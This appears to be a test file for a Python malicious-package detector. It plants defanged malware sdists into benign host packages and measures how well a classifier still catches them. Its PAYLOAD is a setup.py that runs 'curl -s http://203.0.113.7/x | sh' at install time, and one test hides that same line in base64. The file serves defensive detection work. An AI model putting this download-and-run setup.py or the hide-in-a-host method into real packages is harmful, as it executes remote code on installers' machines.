"""The injection hold-out: defanged malware planted in small benign sdists written here, read back
through the real reader and extractor; and the disguised training copy."""

from __future__ import annotations

import io
import tarfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np

from vetpy.acquire.archive import open_archive
from vetpy.features.interface import PackageFeatures
from vetpy.features.registry import FEATURE_IDS
from vetpy.lab import injection
from vetpy.lab.augment import HOST_FEATURES, disguised
from vetpy.lab.dataset.corpus import Sample

PAYLOAD = (
    "import os, base64\n"
    "from setuptools import setup\n"
    "os.system('curl -s http://203.0.113.7/x | sh')\n"
    "setup(name='evil', version='1.0')\n"
)


def write_tar(path: Path, files: dict[str, str]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path.write_bytes(buffer.getvalue())
    return path


def host_files(name: str, modules: int = 40) -> dict[str, str]:
    files = {
        f"{name}-2.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 2.0\nSummary: tools\n",
        f"{name}-2.0/setup.py": f"from setuptools import setup\nsetup(name='{name}', version='2.0')\n",
        f"{name}-2.0/{name}/__init__.py": "__version__ = '2.0'\n",
    }
    for i in range(modules):
        body = "".join(f"def f{i}_{j}(x):\n    return [x * {j} for _ in range(3)]\n\n" for j in range(30))
        files[f"{name}-2.0/{name}/m{i}.py"] = body
    return files


def evil_files() -> dict[str, str]:
    return {
        "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0/evil.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: evil\n",
        "evil-1.0/setup.py": PAYLOAD,
    }


def test_the_malwares_code_joins_the_host_and_its_metadata_does_not(tmp_path: Path) -> None:
    host = open_archive(write_tar(tmp_path / "h.tar.gz", host_files("tidy")).read_bytes(), target="h")
    evil = open_archive(write_tar(tmp_path / "e.tar.gz", evil_files()).read_bytes(), target="e")
    merged = injection.merged_members(evil, host)
    assert merged["tidy-2.0/setup.py"] == PAYLOAD.encode()  # the malware's setup.py wins the clash
    assert merged["tidy-2.0/PKG-INFO"].startswith(b"Metadata-Version: 2.1\nName: tidy")
    assert not any("egg-info" in p or p.startswith("evil-1.0") for p in merged)
    assert "tidy-2.0/tidy/m3.py" in merged
    again = injection.tar_gz(merged)
    assert again == injection.tar_gz(dict(reversed(list(merged.items()))))  # deterministic
    assert {m.path for m in open_archive(again, target="x").members} == set(merged)


def samples_on_disk(tmp_path: Path) -> tuple[list[Sample], np.ndarray, np.ndarray]:
    samples, groups, labels = [], [], []
    for i in range(6):
        path = write_tar(tmp_path / f"evil{i}.tar.gz", evil_files())
        samples.append(Sample(1, path, f"{i:064x}", "evil", "1.0", "2024-07-01", "malicious"))
        groups.append(f"cluster{i // 2}")  # three clusters of two
        labels.append(1)
    for i in range(4):
        path = write_tar(tmp_path / f"host{i}.tar.gz", host_files(f"tidy{i}", modules=60 if i else 1))
        samples.append(Sample(0, path, f"{100 + i:064x}", f"tidy{i}", "2.0", "2025-01-01", "benign-top"))
        groups.append(f"b{i}")
        labels.append(0)
    return samples, np.array(groups), np.array(labels)


def test_pairs_take_one_malware_per_cluster_and_hosts_big_enough(tmp_path: Path) -> None:
    samples, groups, labels = samples_on_disk(tmp_path)
    rows = np.arange(len(samples))
    sizes = (1_000, 10**9)
    pairs = injection.choose_pairs(
        samples, groups, rows[labels == 1], rows[labels == 0], 10, host_bytes=sizes
    )
    assert len(pairs) == 3 and len({groups[p.malware] for p in pairs}) == 3
    assert all(samples[p.host].path.stat().st_size >= sizes[0] for p in pairs)
    assert 6 not in {p.host for p in pairs}  # host0 is too small to look like a project
    again = injection.choose_pairs(
        samples, groups, rows[labels == 1], rows[labels == 0], 10, host_bytes=sizes
    )
    assert pairs == again


class ByTokens:
    """A stand-in model: the score is 0.9 when the code tokens name os.system, else 0.1."""

    def predict_proba(self, rows: list[PackageFeatures]) -> Any:
        p = np.array([0.9 if "call:os.system" in r.code_text else 0.1 for r in rows])
        return np.column_stack([1 - p, p])


def test_the_holdout_scores_real_merged_archives(tmp_path: Path) -> None:
    samples, groups, labels = samples_on_disk(tmp_path)
    rows = np.arange(len(samples))
    scores = np.where(labels == 1, 0.9, 0.1)
    result = injection.injection_holdout(
        ByTokens(), 0.5, samples, groups, rows, scores, labels, n=10, jobs=1, host_bytes=(1_000, 10**9)
    )
    assert result["n"] == 3 and result["unreadable"] == 0
    assert result["recall_alone"] == result["recall_injected"] == 1.0
    assert result["lost"] == 0
    text = "\n".join(injection.injection_markdown("default", result))
    assert "| planted in a benign project | 1.000 |" in text


class Blind:
    """A stand-in model that misses everything."""

    def predict_proba(self, rows: list[PackageFeatures]) -> Any:
        return np.column_stack([np.full(len(rows), 0.9), np.full(len(rows), 0.1)])


def test_the_scan_path_adds_what_hard_findings_catch(tmp_path: Path) -> None:
    import base64

    samples, groups, labels = samples_on_disk(tmp_path)
    hidden = base64.b64encode(b"curl -s http://203.0.113.7/x | sh").decode()
    for i in (0, 1):  # one cluster hides its download-and-run in base64: a hard finding, planted or not
        evil = evil_files() | {
            "evil-1.0/setup.py": PAYLOAD.replace("'curl", f"base64.b64decode('{hidden}') or 'curl")
        }
        write_tar(samples[i].path, evil)
    rows = np.arange(len(samples))
    scores = np.full(len(samples), 0.1)
    result = injection.injection_holdout(
        Blind(),
        0.5,
        samples,
        groups,
        rows,
        scores,
        labels,
        n=10,
        jobs=1,
        host_bytes=(1_000, 10**9),
        row_findings=np.array([i in (0, 1) for i in rows]),
    )
    assert result["n"] == 3 and result["recall_alone"] == result["recall_injected"] == 0.0
    assert result["recall_alone_scan_path"] == result["recall_injected_scan_path"] == 1 / 3
    assert result["injected_caught_only_by_findings"] == 1
    text = "\n".join(injection.injection_markdown("default", result))
    assert "Scan path (the model or a hard finding from the features): alone 0.333, planted 0.333" in text


def test_a_disguised_copy_takes_the_hosts_packaging_and_keeps_its_behaviours() -> None:
    bad = dict.fromkeys(FEATURE_IDS, 0.0)
    bad.update({"code.os_system": 1.0, "archive.log_py_bytes": 5.0, "meta.no_license": 1.0})
    good = dict.fromkeys(FEATURE_IDS, 0.0)
    good.update({"code.http": 2.0, "archive.log_py_bytes": 12.0, "meta.log_description": 7.0})
    malware = PackageFeatures("evil", "1", bad, "", "meta:no_author call:os.system import:os")
    host = PackageFeatures("tidy", "2", good, "", "meta:classifier import:os import:json")
    copy = disguised(malware, host)
    assert all(copy.values[k] == good[k] for k in HOST_FEATURES)
    assert copy.values["code.os_system"] == 1.0 and copy.values["code.http"] == 2.0
    assert copy.code_text.split() == ["call:os.system", "import:os", "meta:classifier", "import:json"]
    assert malware.values["archive.log_py_bytes"] == 5.0  # the original is untouched
    named = disguised(
        replace(malware, values={**bad, "meta.typosquat": 1.0}), host, own_name=True
    )  # the attacker's name stays
    assert named.values["meta.typosquat"] == 1.0 and copy.values["meta.typosquat"] == 0.0
    assert named.values["archive.log_py_bytes"] == 12.0
    code_only = disguised(malware, host, packaging=False)  # only the host's code joins
    assert all(code_only.values[k] == bad[k] for k in HOST_FEATURES)
    assert code_only.values["code.os_system"] == 1.0 and code_only.values["code.http"] == 2.0
    assert code_only.code_text.split() == ["meta:no_author", "call:os.system", "import:os", "import:json"]


def test_planted_scores_reads_each_pair_and_scores_it(tmp_path: Path) -> None:
    samples, groups, labels = samples_on_disk(tmp_path)
    rows = np.arange(len(samples))
    samples.append(Sample(0, tmp_path / "missing.tar.gz", "f" * 64, "gone", "1", "2025-01-01", "benign-top"))
    chosen = injection.choose_pairs(
        samples, groups, rows[labels == 1], rows[labels == 0], 2, host_bytes=(1_000, 10**9)
    )
    pairs, scores, unreadable, findings = injection.planted_scores(ByTokens(), samples, chosen, jobs=1)
    assert len(pairs) == 2 and unreadable == 0 and scores.tolist() == [0.9, 0.9]
    assert findings.tolist() == [False, False]  # a plain download-and-run: the model's to judge
    assert all(labels[p.malware] == 1 and labels[p.host] == 0 for p in pairs)


def test_the_summary_shows_the_selection_checks_planted_recall() -> None:
    from vetpy.lab.runner import _selection_markdown

    base = {f"recall_at_fpr_{pct}%": 0.99 for pct in (0.1, 0.2, 0.5, 1)}
    base |= {"own_threshold_recall": 0.97, "own_threshold_fp": 10, "n_benign": 8390}
    planted = {"planted_recall_alone": 0.977, "planted_recall": 0.253, "planted_recall_at_fpr_0.1%": 0.24}
    results = {"models": {"default": {"selection_cv": base | planted}, "old": {"selection_cv": base}}}
    text = "\n".join(_selection_markdown(results))
    assert "| default | 0.990 | 0.990 | 0.990 | 0.990 | 0.970 | 10/8390 | 0.977 | 0.253 | 0.240 |" in text
    assert "| old | 0.990 | 0.990 | 0.990 | 0.990 | 0.970 | 10/8390 | - | - | - |" in text
    assert _selection_markdown({"models": {"default": {}}}) == []
